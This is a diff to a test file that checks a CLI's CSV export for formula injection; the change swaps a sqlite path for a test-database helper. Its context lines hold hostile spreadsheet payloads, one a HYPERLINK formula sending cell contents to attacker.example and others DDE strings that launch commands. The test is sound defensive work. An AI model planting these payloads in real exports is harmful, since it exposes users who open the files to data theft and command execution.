@@ -8,6 +8,7 @@ import { describe, it, expect, beforeAll, afterAll } from 'vitest';
 import { cli } from '../helpers/cli';
 import { buildLamaRun, lamaSpec } from '../helpers/lamaTree';
 import { encodeScalarEvent, eventRecord } from '../../server/ingest/tfeventsWriter';
+import { testDbUrl } from '../helpers/testDb';
 
 const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0'];
 
@@ -21,7 +22,7 @@ describe('lrscope export: CSV injection', () => {
     const built = buildLamaRun(path.join(tmp, 'project'), lamaSpec({ maxEpochs: 1, limitTrainBatches: 20 }));
     name = built.name;
     fs.appendFileSync(built.eventFile, Buffer.concat(HOSTILE.map((tag, i) => eventRecord(encodeScalarEvent({ tag, step: 5 + i, value: -0.5 - i, wallTime: 1_800_000_000 + i })))));
-    db = path.join(tmp, 'db.sqlite');
+    db = testDbUrl(tmp, 'db');
     expect((await cli('ingest', path.join(tmp, 'project'), '--db', db)).code).toBe(0);
   });
 
